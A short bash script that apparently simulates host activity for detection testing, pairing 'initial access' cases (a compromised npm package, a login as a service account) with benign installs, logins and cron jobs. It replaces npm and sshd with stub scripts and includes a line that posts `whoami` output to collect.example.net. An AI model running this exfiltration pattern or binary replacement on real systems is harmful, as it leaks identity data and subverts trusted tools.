#!/bin/bash
# Initial access, as far as a host sees it. Beside it, installations and logins that are as they should be.
# The package manager and the login service are short scripts under the real ones' names.

host_install_a_package_that_was_taken_over() {
  printf '#!/bin/bash\nsh -c "$(cat "/opt/packages/$2")"\n' > /usr/local/bin/npm
  chmod 755 /usr/local/bin/npm
  mkdir -p /opt/packages
  echo 'curl -s -m 1 -d "$(whoami)" http://collect.example.net/' > /opt/packages/left-pads
  npm install left-pads
}

host_log_in_as_a_service() {
  printf '#!/bin/bash\nsetpriv --reuid "$1" --regid "$1" --clear-groups /bin/sh -c "id; true"\n' > /usr/local/sbin/sshd
  chmod 755 /usr/local/sbin/sshd
  sshd 33
}

# Ordinary work.

host_install_a_package() {
  echo 'uname -m' > /opt/packages/left-pad
  npm install left-pad
}

host_run_a_script_of_a_project() {
  echo 'curl -s -m 1 http://packages.example.org/' > /opt/packages/fetch
  npm run fetch
}

host_log_in() {
  sshd 1000
}

host_cron_run_as_a_service() {
  setpriv --reuid 33 --regid 33 --clear-groups /bin/sh -c 'date; true'
}

"$1"
